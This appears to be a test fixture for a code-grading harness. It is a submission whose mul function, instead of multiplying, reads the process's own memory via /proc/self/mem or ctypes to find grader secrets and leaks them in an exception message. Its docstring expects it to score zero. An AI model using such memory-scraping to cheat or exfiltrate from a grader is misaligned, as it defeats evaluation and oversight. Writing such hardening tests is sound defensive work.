# mypy: ignore-errors
# ruff: noqa
"""Searches its own memory for secrets, through ctypes and through /proc.

Class: reading
Act: in mul
Expected: score 0; nothing of the grader's is in it
"""

import ctypes, re

SECRET = re.compile(rb"kitsecret[0-9a-f]{12}")


def mul(a, b):
    found = set()
    try:
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
            for line in maps:
                first, last = (int(part, 16) for part in line.split()[0].split("-"))
                if " rw-p" in line and last - first < 1 << 28:
                    memory.seek(first)
                    found.update(SECRET.findall(memory.read(last - first)))
    except OSError:
        for back in range(1 << 8):
            data = ctypes.string_at(id(a) - (id(a) % 4096) + back * 4096, 4096)
            found.update(SECRET.findall(data))
    raise ValueError(b" ".join(found).decode())
